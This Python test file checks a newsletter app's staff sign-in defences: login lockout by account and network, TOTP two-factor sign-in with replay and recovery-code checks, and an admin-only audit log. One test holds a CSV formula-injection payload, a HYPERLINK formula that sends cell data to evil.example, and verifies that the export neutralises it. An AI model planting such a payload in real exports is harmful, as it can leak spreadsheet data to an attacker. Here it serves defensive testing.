"""Staff sign-in under attack: lockout per account and network, two-factor codes, the audit log.

Against the real server; the two-factor sign-in in real Chromium, with codes
computed by pyotp as an authenticator app would.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import logging
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pyotp
import requests
from playwright.sync_api import expect

from conftest import STAFF_PASSWORD, Cli, LiveServer, add_staff, free_port
from newsletter import jobs
from newsletter.workspace import Workspace

ATTACKER = "203.0.113.66"
OWNER = "198.51.100.20"


@contextlib.contextmanager
def staff_server(
    ws_dir: Path, add_users: bool = True, **env: str
) -> Iterator[tuple[Workspace, str]]:
    """The web app behind a proxy on loopback, with an admin and an editor account."""
    port = free_port()
    ws = Workspace.open(
        ws_dir,
        env={
            "NEWSLETTER_SITE__BASE_URL": f"http://127.0.0.1:{port}",
            "NEWSLETTER_WEB__TRUSTED_PROXIES": "127.0.0.1",
            **env,
        },
    )
    if add_users:
        add_staff(ws, dt.datetime.now(dt.UTC))
    server = LiveServer(ws, port)
    server.start()
    try:
        yield ws, server.url + "/admin"
    finally:
        server.stop()
        ws.close()


def try_sign_in(
    url: str, password: str, ip: str, email: str = "admin@example.com"
) -> requests.Response:
    session = requests.Session()
    session.headers["X-Forwarded-For"] = ip
    form = session.get(url + "/sign-in", timeout=10).text
    token = re.search(r'name="token" value="([^"]+)"', form).group(1)
    answer = session.post(
        url + "/sign-in",
        data={"email": email, "password": password, "token": token},
        allow_redirects=False,
        timeout=30,
    )
    answer.session = session  # type: ignore[attr-defined]
    return answer


# -- 10: lockout per account and source ---------------------------------------------------


def test_an_attacker_cannot_lock_the_owner_out(ws_dir: Path, caplog) -> None:
    caplog.set_level(logging.WARNING)
    with staff_server(ws_dir) as (ws, url):
        statuses = [try_sign_in(url, f"guess {n}", ATTACKER).status_code for n in range(10)]
        assert statuses == [401] * 8 + [429, 429]
        # Locked for the attacker's network, even with the right password ...
        assert try_sign_in(url, STAFF_PASSWORD, ATTACKER).status_code == 429
        # ... but the owner, elsewhere, gets in at once.
        owner = try_sign_in(url, STAFF_PASSWORD, OWNER)
        assert owner.status_code == 303 and owner.headers["location"] == "/admin/"
        home = owner.session.get(url + "/", timeout=10).text  # type: ignore[attr-defined]
        assert "sign-in to your account was locked 1 time" in home
        assert "203.0.113.0" in home
        # The notice is shown once.
        again = owner.session.get(url + "/", timeout=10).text  # type: ignore[attr-defined]
        assert "was locked" not in again
        # Another account is not affected from the attacker's network either.
        assert try_sign_in(url, STAFF_PASSWORD, ATTACKER, "editor@example.com").status_code == 303
    assert any(
        "admin@example.com locked for network 203.0.113.0" in r.getMessage() for r in caplog.records
    )


def test_other_spellings_of_an_address_share_its_failed_sign_ins(ws_dir: Path) -> None:
    """Guesses under the IDNA form of the domain, or other capitals, count for one account."""
    from newsletter import staff

    with staff_server(ws_dir) as (ws, url):
        staff.add_user(
            ws.store, "renée@bücher.example", "editor", STAFF_PASSWORD, dt.datetime.now(dt.UTC)
        )
        spellings = ["renée@bücher.example", "renée@xn--bcher-kva.example", "RENÉE@BÜCHER.example"]
        statuses = [
            try_sign_in(url, f"guess {n}", ATTACKER, spellings[n % 3]).status_code for n in range(9)
        ]
        assert statuses == [401] * 8 + [429]
        assert try_sign_in(url, STAFF_PASSWORD, ATTACKER, spellings[1]).status_code == 429
        assert try_sign_in(url, STAFF_PASSWORD, OWNER, spellings[0]).status_code == 303


def test_many_accounts_from_one_network_are_still_limited(ws_dir: Path) -> None:
    with staff_server(ws_dir) as (ws, url):
        statuses = [
            try_sign_in(url, "guess", ATTACKER, f"user{n}@example.com").status_code
            for n in range(22)
        ]
        assert statuses[:20] == [401] * 20 and statuses[20:] == [429, 429]


# -- 16: two-factor sign-in in a real browser ----------------------------------------------


def sign_in_password(page, url: str, email: str = "admin@example.com") -> None:
    page.goto(url + "/sign-in")
    page.get_by_label("Email address").fill(email)
    page.get_by_label("Password").fill(STAFF_PASSWORD)
    page.get_by_role("button", name="Sign in").click()


def enter_code(page, code: str) -> None:
    page.get_by_label("Code from your authenticator app").fill(code)
    page.get_by_role("button", name="Verify").click()


def sign_out(page) -> None:
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(re.compile(r".*/admin/sign-in$"))


def test_two_factor_sign_in_in_a_browser(browser, ws_dir: Path, env) -> None:
    with staff_server(ws_dir, NEWSLETTER_WEB__REQUIRE_2FA="true") as (ws, url):
        context = browser.new_context(
            viewport={"width": 1280, "height": 900},
            extra_http_headers={"X-Forwarded-For": OWNER},
        )
        page = context.new_page()
        page.set_default_timeout(15_000)

        # An admin with only a password sees nothing but the set-up page.
        sign_in_password(page, url)
        page.wait_for_url(url + "/account")
        expect(page.get_by_text("sign in with a code from an authenticator app")).to_be_visible()
        page.goto(url + "/campaigns")
        page.wait_for_url(url + "/account")

        page.get_by_role("button", name="Set up two-factor sign-in").click()
        qr = page.get_by_role("img", name="QR code for your authenticator app")
        expect(qr).to_be_visible()
        assert qr.get_attribute("src").startswith("data:image/svg+xml")
        assert qr.evaluate("img => img.naturalWidth") > 0
        totp = pyotp.TOTP(page.locator("#totp-key").inner_text().replace(" ", ""))
        page.get_by_label("Code from the app").fill("12345")
        page.get_by_role("button", name="Turn on two-factor sign-in").click()
        expect(page.get_by_role("alert")).to_contain_text("That code is not right")
        first = totp.now()
        page.get_by_label("Code from the app").fill(first)
        page.get_by_role("button", name="Turn on two-factor sign-in").click()
        codes = page.get_by_role("list", name="Recovery codes").locator("code").all_inner_texts()
        assert len(codes) == 10 and len(set(codes)) == 10
        page.goto(url + "/campaigns")
        expect(page.get_by_role("heading", name="Campaigns")).to_be_visible()
        sign_out(page)

        # The password alone is not enough any more.
        sign_in_password(page, url)
        expect(page.get_by_label("Code from your authenticator app")).to_be_visible()
        page.goto(url + "/campaigns")
        assert "/sign-in" in page.url
        sign_in_password(page, url)
        enter_code(page, "000000" if first != "000000" else "111111")
        expect(page.get_by_role("alert")).to_contain_text("not right")
        enter_code(page, first)  # a code seen (and used) once is refused: replay
        expect(page.get_by_role("alert")).to_contain_text("used already")
        # The next code the app shows (the server allows one step of clock drift).
        enter_code(page, totp.at(time.time() + 30))
        page.wait_for_url(url + "/")
        sign_out(page)

        # A recovery code works once.
        sign_in_password(page, url)
        enter_code(page, codes[0].upper())
        page.wait_for_url(url + "/")
        sign_out(page)
        sign_in_password(page, url)
        enter_code(page, codes[0])
        expect(page.get_by_role("alert")).to_contain_text("not right")

        # The audit log names each step, with the address it came from.
        sign_in_password(page, url)
        enter_code(page, codes[1])
        page.wait_for_url(url + "/")
        page.goto(url + "/audit")
        log = page.get_by_role("table")
        expect(log).to_contain_text("turned on two-factor sign-in")
        expect(log).to_contain_text("with a recovery code (8 left)")
        expect(log).to_contain_text(OWNER)
        context.close()

    # The phone is lost with the codes: an operator turns two-factor sign-in off.
    reset = Cli(ws_dir, env)("users", "reset-2fa", "admin@example.com")
    assert "two-factor sign-in is off" in reset.stdout
    with staff_server(ws_dir, add_users=False, NEWSLETTER_WEB__REQUIRE_2FA="true") as (ws, url):
        context = browser.new_context()
        page = context.new_page()
        sign_in_password(page, url)
        page.wait_for_url(url + "/account")  # straight to setting up a new app
        expect(page.get_by_role("button", name="Set up two-factor sign-in")).to_be_visible()
        context.close()


# -- 16: the audit log ---------------------------------------------------------------------


def test_the_audit_log_is_for_admins_and_its_csv_is_spreadsheet_safe(ws_dir: Path) -> None:
    with staff_server(ws_dir) as (ws, url):
        jobs.fetch_sources(ws, ws.store, dt.datetime.now(dt.UTC))  # articles to send
        editor = try_sign_in(url, STAFF_PASSWORD, OWNER, "editor@example.com").session
        page = editor.get(url + "/campaigns/new", timeout=10).text
        csrf = re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)
        subject = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        made = editor.post(
            url + "/campaigns/new",
            data={"csrf": csrf, "subject": subject, "articles_mode": "new", "template": "auto"},
            timeout=10,
        )
        assert made.ok
        assert editor.get(url + "/audit", timeout=10).status_code == 403
        assert editor.get(url + "/audit.csv", timeout=10).status_code == 403

        admin = try_sign_in(url, STAFF_PASSWORD, OWNER).session
        answer = admin.get(url + "/audit.csv", timeout=10)
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        created = [r for r in rows if r["action"] == "created a campaign"]
        assert len(created) == 1
        assert created[0]["actor"] == "editor@example.com" and created[0]["ip"] == OWNER
        # Quoted so that a spreadsheet shows it instead of running it.
        assert created[0]["detail"] == "'" + subject
        assert {r["action"] for r in rows} >= {"signed in", "created a campaign"}
